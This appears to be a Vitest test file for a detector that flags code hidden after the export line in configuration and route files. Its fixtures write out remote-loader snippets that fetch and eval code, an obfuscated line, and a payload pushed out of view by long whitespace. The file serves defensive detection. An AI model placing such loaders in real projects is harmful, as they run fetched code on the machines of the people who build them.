import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './code-after-exports.ts';

describe('code-after-exports', () => {
  const long = `(function(){${"a[b('c')](d);".repeat(120)}require('https');})();`;
  it.each([
    [
      'a loader in a configuration',
      'tailwind.config.js',
      "module.exports = { content: [] };\nconst r = require('https');\nr.get(u, (s) => s.on('data', (d) => eval(d)));",
    ],
    ['an obfuscated line in a configuration', 'postcss.config.mjs', `export default { plugins: [] };\n${long}`],
    ['behind the export on its line', 'next.config.js', `module.exports = { a: 1 };${' '.repeat(300)}${long}`],
    [
      'a route',
      'routes/user.js',
      "module.exports = router;\naxios.get(u).then((r) => new Function('require', r.data)(require));",
    ],
    [
      'TypeScript',
      'vite.config.ts',
      'export default defineConfig({ plugins: [] });\n(async () => { const r = await fetch(u); eval(await r.text()); })();',
    ],
  ])('%s', (_name, file, text) => {
    expect(fileHits(detector, file, text)).toHaveLength(1);
  });
  it.each([
    [
      'functions after the export',
      'lib/a.js',
      "module.exports = a;\nfunction a() { return require('https').get('x', b); }\nfunction b() { return 1; }\n",
    ],
    [
      'a server that starts',
      'server/app.js',
      'module.exports = app;\nif (require.main === module) app.listen(3000);\n',
    ],
    [
      'further exports',
      'a.js',
      "module.exports = a;\nmodule.exports.b = require('./b');\nmodule.exports.c = function () { return fetch('/x'); };\n",
    ],
    [
      'a class after the export',
      'a.ts',
      'export default A;\nclass A { constructor(x) { this.x = x; } get() { return fetch(this.x); } }\n',
    ],
    [
      'a source map',
      'a.js',
      `module.exports = a;\n//# sourceMappingURL=data:application/json;base64,${'A'.repeat(3000)}\n`,
    ],
    [
      'a bundle of esbuild',
      'lib/main.js',
      `module.exports = __toCommonJS(src_exports);\nvar a = require("child_process");\na.exec("x"); eval("y"); fetch("z");\n`,
    ],
    ['a built file', 'dist/a.js', `module.exports = a;\n${long}`],
    [
      'a configuration that goes on',
      'webpack.config.js',
      "module.exports = { mode: 'production' };\nmodule.exports.devServer = { port: 3000 };\n",
    ],
  ])('leaves %s alone', (_name, file, text) => {
    expect(fileHits(detector, file, text)).toEqual([]);
  });
});
